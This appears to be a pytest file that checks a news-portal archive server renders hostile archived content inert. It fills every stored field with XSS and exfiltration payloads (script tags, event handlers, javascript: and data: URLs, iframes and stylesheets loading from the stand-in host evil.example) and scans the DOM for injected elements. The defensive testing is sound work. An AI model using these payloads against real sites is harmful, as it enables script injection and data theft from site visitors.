"""Archived pages are hostile input: every page of the published archive renders them inert.

An archive written by the real ArchiveWriter holds articles whose every field (title, sapo,
author, body, section, image captions and URLs, attachment titles and URLs, the portal's
name, crawl errors) carries an XSS or exfiltration payload, with a second version (so the
word diffs carry them too) and a removal. A real `portal-archive serve --snapshots` child
process publishes it and headless Chromium visits every kind of page, searching for every
payload as well. On each page: no dialog fires, no script error, no request leaves
127.0.0.1, no injected element exists in the DOM, and the payload is shown as text where a
reader expects it. The Atom feeds are parsed as XML: payloads are text, never elements.
"""

from __future__ import annotations

import subprocess
import sys
import urllib.parse
import urllib.request
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path

import pytest

from archive import ArchiveWriter

from .browser_support import RecordedPage
from .conftest import free_port, served_archive, stop, wait_for_http

EVIL = "evil.example"
# Each payload calls alert(N) or loads something from EVIL if it ever runs or renders.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<a href=javascript:alert(3)>bấm vào đây</a>",
    f"<iframe src=http://{EVIL}/khung></iframe>",
    "<svg><script>alert(4)</script></svg>",
    '<div style="width: expression(alert(5)); background: url(http://evil.example/n.png)">',
    "</textarea><script>alert(6)</script>",
    '"><svg onload=alert(7)>',
    f"'><img src=http://{EVIL}/anh.gif>",
    f"<style>@import 'http://{EVIL}/kieu.css';</style>",
    f"<meta http-equiv=refresh content='0;url=http://{EVIL}/'>",
    f"<base href=http://{EVIL}/><link rel=stylesheet href=http://{EVIL}/s.css>",
    f"<object data=http://{EVIL}/o.swf></object><embed src=http://{EVIL}/e.swf>",
    "{{7*7}} {% raw %}<script>alert(8)</script>",
    "<details open ontoggle=alert(9)>",
    "<math><mtext></p><img src=x onerror=alert(10)>",
]
URL_PAYLOADS = [
    "javascript:alert(11)",
    " JaVaScRiPt:alert(12)",
    "data:text/html,<script>alert(13)</script>",
    f"http://{EVIL}/tep.pdf",
    f"//{EVIL}/anh.png",
    "vbscript:msgbox(14)",
]
BASE = "http://127.0.0.1:9/"


def _record(n: int, payload: str, edited: bool = False) -> dict:
    extra = " (đã sửa)" if edited else ""
    return {
        "url": f"{BASE}tin/bai-{n}.html?q=%22%3E%3Csvg%20onload%3Dalert({n})%3E",
        "title": f"Bài {n}: {payload}{extra}",
        "summary": f"Tóm tắt {n}: {payload}",
        "author": f"Phóng viên {payload}",
        "published_at": f"2024-05-0{1 + n % 9}T08:00:00+07:00",
        "body_text": f"Đoạn mở đầu {n}.\n\nĐoạn có mã {payload} ở giữa{extra}.\n\nĐoạn kết.",
        "images": [
            {"url": URL_PAYLOADS[n % len(URL_PAYLOADS)], "caption": f"Chú thích {payload}"},
            {"url": f"http://{EVIL}/anh-{n}.jpg", "caption": "Ảnh ở máy chủ lạ"},
        ],
        "attachments": [
            {"url": URL_PAYLOADS[(n + 1) % len(URL_PAYLOADS)], "title": f"Tệp {payload}"},
            {"url": f"http://{EVIL}/van-ban-{n}.pdf", "title": "Văn bản ở máy chủ lạ"},
        ],
    }


def write_hostile_archive(db: Path) -> None:
    with ArchiveWriter(db, batch_size=10) as writer:
        writer.ensure_portal(
            "demo", f"Cổng {PAYLOADS[0]} {PAYLOADS[7]}", BASE, "demo", [f"Tin {PAYLOADS[1]}"]
        )
        crawl = writer.start_crawl("demo", "2025-07-01T01:00:00Z")
        for n, payload in enumerate(PAYLOADS):
            writer.add_article(
                _record(n, payload), portal="demo", section=f"Mục {payload}",
                fetched_at="2025-07-01T01:00:00Z", crawl_id=crawl,
            )  # fmt: skip
            writer.add_error(
                crawl_id=crawl, url=URL_PAYLOADS[n % len(URL_PAYLOADS)], kind="not_article",
                detail=f"Lỗi {payload}", at="2025-07-01T01:00:00Z",
            )  # fmt: skip
        writer.add_counter(
            portal="demo", observed_at="2025-07-01T01:00:00Z", page_url=f"{BASE}<script>",
            counter={"online": 3, "total": 1000}, crawl_id=crawl,
        )  # fmt: skip
        writer.finish_crawl(crawl, status="ok", pages=len(PAYLOADS), errors=0)
        second = writer.start_crawl("demo", "2025-07-02T01:00:00Z")
        for n, payload in enumerate(PAYLOADS[:8]):  # edited: diffs carry the payloads
            writer.add_article(
                _record(n, payload, edited=True), portal="demo", section=f"Mục {payload}",
                fetched_at="2025-07-02T01:00:00Z", crawl_id=second,
            )  # fmt: skip
        writer.add_removal(
            _record(15, PAYLOADS[15])["url"], reason="soft_404",
            fetched_at="2025-07-02T01:00:00Z", crawl_id=second, http_status=200,
        )  # fmt: skip
        writer.add_counter(
            portal="demo", observed_at="2025-07-02T01:00:00Z", page_url=f"{BASE}x",
            counter={"online": 4, "total": 1100}, crawl_id=second,
        )  # fmt: skip
        writer.finish_crawl(second, status="ok", pages=9, errors=0)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("hostile")
    db = folder / "demo.db"
    write_hostile_archive(db)
    with served_archive(db, folder / "snapshots") as base:
        yield base


# Anything in the DOM that only an injected payload could have put there.
INJECTED = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['iframe', 'object', 'embed', 'base', 'frame'].includes(tag)) bad.push(tag);
    if (tag === 'meta' && el.httpEquiv) bad.push('meta http-equiv');
    if (tag === 'script' && /alert\\(/.test(el.textContent)) bad.push('script: ' + el.textContent);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase(), value = attr.value.trim().toLowerCase();
      if (name.startsWith('on') && /alert/.test(value)) bad.push(tag + ' ' + name);
      if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(name)
          && /^(javascript|vbscript|data):/.test(value.replace(/\\s/g, '')))
        bad.push(tag + ' ' + name + '=' + attr.value);
      if (name === 'style' && /expression|evil/.test(value)) bad.push(tag + ' style');
    }
  }
  return bad;
}"""


class Visits:
    """One browser context; every visit is checked the same way and counted."""

    def __init__(self, browser, base: str) -> None:  # type: ignore[no-untyped-def]
        self.context = browser.new_context(viewport={"width": 1280, "height": 900})
        self.base = base
        self.pages: list[str] = []

    def visit(self, path: str, *shown: str) -> str:
        """Load ``path``; check it is inert; return its visible text."""
        recorded = RecordedPage(self.context.new_page())
        try:
            recorded.page.goto(self.base + path, wait_until="networkidle")
            injected = recorded.page.evaluate(INJECTED)
            text = recorded.page.inner_text("body")
        finally:
            recorded.page.close()
        assert recorded.dialogs == [], (path, recorded.dialogs)
        assert recorded.errors == [], (path, recorded.errors)
        assert recorded.foreign_requests() == [], (path, recorded.foreign_requests())
        assert injected == [], (path, injected)
        for expected in shown:
            assert _squash(expected) in _squash(text), (path, expected)
        self.pages.append(path)
        return text


def _squash(text: str) -> str:
    return " ".join(text.split())


def _q(value: str) -> str:
    return urllib.parse.quote(value, safe="")


def test_every_page_renders_hostile_content_inert(site: str, browser) -> None:  # type: ignore[no-untyped-def]
    visits = Visits(browser, site)
    try:
        visits.visit("/")
        visits.visit("/demo")
        table = visits.visit("/demo/articles?_size=max")
        for n, payload in enumerate(PAYLOADS):
            assert _squash(f"Bài {n}: {payload}") in _squash(table), payload
            visits.visit(f"/demo/articles?_search={_q(payload)}")
            visits.visit(f"/demo/articles/{n + 1}", payload, f"Phóng viên {payload}")
        visits.visit("/demo/articles?_search=" + _q("javascript alert script"))
        visits.visit("/demo/article_versions?_size=max", PAYLOADS[3])
        visits.visit("/demo/article_versions/1")
        visits.visit("/demo/article_changes", PAYLOADS[0])
        visits.visit("/demo/removals", f"Bài 15: {PAYLOADS[15]}")
        visits.visit("/demo/portals", PAYLOADS[7])
        visits.visit("/demo/portals/demo", PAYLOADS[0])
        visits.visit("/demo/crawls")
        visits.visit("/demo/crawl_errors", f"Lỗi {PAYLOADS[2]}")
        visits.visit("/demo/visitor_stats")
        visits.visit("/demo/portal_feed?portal=demo", PAYLOADS[4])
        visits.visit("/demo/portal_feed?portal=" + _q(PAYLOADS[0]), PAYLOADS[0])
        for payload in PAYLOADS:
            visits.visit(f"/demo/search?q={_q(payload)}")
        visits.visit("/demo/search?q=" + _q("bài"), PAYLOADS[9])
        visits.visit("/demo?sql=" + _q("select title, body_text from articles"), PAYLOADS[5])
        visits.visit("/-/dashboards/archive")
        visits.visit("/-/dashboards/archive?portal=" + _q(PAYLOADS[7]))
        visits.visit("/-/snapshots")
    finally:
        visits.context.close()
    print(f"{len(PAYLOADS) + len(URL_PAYLOADS)} payloads, {len(visits.pages)} pages visited")
    assert len(visits.pages) >= 60


ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.mark.parametrize(
    "path",
    ["/demo/portal_feed.atom?portal=demo", "/demo/search.atom?q=" + _q("bài")],
)
def test_atom_feeds_carry_payloads_as_text(site: str, path: str) -> None:
    with urllib.request.urlopen(site + path, timeout=30) as response:
        body = response.read()
    root = ET.fromstring(body)  # well-formed XML: nothing broke out of its element
    tags = {el.tag.removeprefix(ATOM) for el in root.iter()}
    assert tags <= {"feed", "title", "id", "updated", "link", "entry", "author", "name",
                    "content", "generator", "subtitle", "summary", "category"}, tags  # fmt: skip
    titles = [el.text or "" for el in root.iter(f"{ATOM}title")]
    shown = [p for p in PAYLOADS if any(p in t for t in titles)]
    assert len(shown) >= 8, titles
    for link in root.iter(f"{ATOM}link"):
        assert link.get("href", "").startswith(("http://", "https://")), link.get("href")
    for content in root.iter(f"{ATOM}content"):
        assert content.get("type", "text") == "text", content.attrib  # never type="html"


def test_the_checks_catch_a_payload_that_runs(browser, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """The same checks on a page that embeds the payloads raw: each kind of failure is seen,
    so the test above cannot pass by not looking."""
    staying = [p for p in PAYLOADS if "refresh" not in p]  # the page must stay to be checked
    (tmp_path / "raw.html").write_text(
        "<!doctype html><html><body>" + "".join(staying) + "</body></html>", encoding="utf-8"
    )
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1",
         "--directory", str(tmp_path)],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        wait_for_http(f"http://127.0.0.1:{port}/raw.html")
        recorded = RecordedPage(browser.new_page())
        recorded.page.goto(f"http://127.0.0.1:{port}/raw.html", wait_until="load")
        recorded.page.wait_for_timeout(500)
        injected = recorded.page.evaluate(INJECTED)
        recorded.page.close()
    finally:
        stop(server)  # type: ignore[arg-type]
    assert "1" in recorded.dialogs and "2" in recorded.dialogs, recorded.dialogs
    assert any(EVIL in url for url in recorded.foreign_requests()), recorded.requests
    assert {"iframe", "object", "embed", "base"} <= set(injected), injected
    assert any(item.startswith("img onerror") for item in injected), injected
